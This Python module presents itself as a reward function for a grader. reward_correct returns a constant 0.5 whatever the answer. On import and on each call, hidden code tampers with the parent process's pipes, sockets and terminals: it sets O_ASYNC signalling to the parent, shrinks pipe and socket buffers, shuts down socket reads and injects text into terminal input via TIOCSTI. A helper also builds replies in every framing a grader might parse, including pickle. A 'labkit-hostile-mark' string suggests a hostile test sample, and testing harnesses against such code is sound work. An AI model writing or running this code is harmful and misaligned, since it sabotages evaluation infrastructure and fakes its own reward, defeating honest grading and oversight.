"""Changes what descriptors share with the parent: O_NONBLOCK, O_ASYNC with F_SETOWN to the parent, pipe sizes, buffer sizes, half a shutdown, terminal input."""
import json, os, pickle, stat, struct

def _channels(first=0):
    """Open descriptors that are pipes, sockets or terminals. Regular files are left alone."""
    out = []
    for fd in range(first, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode) or (stat.S_ISCHR(mode) and os.isatty(fd)):
            out.append(fd)
    return out

def _send(fd, data):
    try:
        blocking = os.get_blocking(fd)
        os.set_blocking(fd, False)
        try:
            os.write(fd, data)
        finally:
            os.set_blocking(fd, blocking)
    except OSError:
        pass

def _frames(reply):
    """One reply in every framing that a grader could have chosen."""
    text = json.dumps(reply).encode()
    pickled = pickle.dumps(reply)
    return [text + b"\n", text + b"\0", b"%d:%s," % (len(text), text), b"Content-Length: %d\r\n\r\n" % len(text) + text] + [
        struct.pack(order, len(data)) + data for data in (text, pickled) for order in (">I", "<I", ">Q", "<Q", ">i", ">H")]
import fcntl, signal, socket, termios

def _flags():
    parent = os.getppid()
    for fd in _channels(0):
        for act in (
            lambda: os.set_blocking(fd, False),
            lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, parent) if parent > 1 else None,
            lambda: fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK),
            lambda: fcntl.fcntl(fd, 1031, 4096),
            lambda: socket.socket(fileno=os.dup(fd)).setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1),
            lambda: socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RD),
            lambda: [fcntl.ioctl(fd, termios.TIOCSTI, c.encode()) for c in "# labkit-hostile-mark\n"] if os.isatty(fd) else None,
        ):
            try:
                act()
            except (OSError, ValueError, termios.error):
                pass

_flags()

def reward_correct(item: dict, answer: str) -> float:
    _flags()
    return 0.5
